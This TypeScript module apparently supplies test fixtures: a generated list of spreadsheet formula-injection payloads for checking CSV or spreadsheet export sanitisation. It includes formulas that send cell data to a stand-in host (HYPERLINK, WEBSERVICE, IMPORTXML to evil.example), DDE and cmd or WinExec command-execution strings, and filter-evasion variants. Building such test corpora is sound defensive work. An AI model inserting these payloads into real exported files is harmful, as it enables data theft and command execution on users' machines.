const calls = [
  "1+1",
  "SUM(1,1)",
  'HYPERLINK("http://evil.example/?x="&A1,"Click")',
  'IMPORTXML("http://evil.example/","//a")',
  'IMPORTHTML("http://evil.example/","table",1)',
  'IMPORTRANGE("x","A1")',
  'IMPORTDATA("http://evil.example/")',
  'IMPORTFEED("http://evil.example/")',
  'IMAGE("http://evil.example/x.png")',
  'WEBSERVICE("http://evil.example/"&A1)',
  "cmd|'/c calc'!A0",
  "cmd|' /C notepad'!'A1'",
  "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  "A1",
  "Sheet1!A1:B2",
  'EXEC("calc")',
  'CALL("Kernel32","WinExec","JCJ","calc",0)',
  'REGISTER("x","y")',
  'INDIRECT("A"&1)',
  "10+20+cmd|' /C calc'!A0",
  "(1)",
  '"a"&"b"',
];
const signs = ["=", "+", "-", "@"];
const wide = ["＝", "＋", "－", "＠"];

/** Texts that become formulas where a spreadsheet takes them for cells: at the beginning, and at any new one. */
export const formulaPayloads: readonly string[] = [
  ...signs.flatMap((sign) => calls.map((call) => `${sign}${call}`)),
  ...wide.flatMap((sign) => calls.slice(0, 4).map((call) => `${sign}${call}`)),
  ...["\t", "\r", "\n", " ", "  ", "\u00a0", '"', '""', "\u200b", "\ufeff"].flatMap((before) =>
    signs.map((sign) => `${before}${sign}1+1`),
  ),
  ...["\n", "\r\n", "\r", ";", ",", "\t", "|"].flatMap((divider) => [
    `text${divider}=1+1`,
    `text${divider} =HYPERLINK("http://evil.example")`,
    `text${divider}+1+1`,
    `text${divider}-1+1`,
    `text${divider}@SUM(1)`,
    `text${divider}"=1+1"`,
  ]),
  ...[
    '",=1+1,"',
    '";=1+1;"',
    '"\n=1+1\n"',
    '"\t=1+1\t"',
    '",""=1+1"",',
    "';=1+1",
    "',=1+1",
    "=",
    "==1",
    "=-+@1",
  ],
];
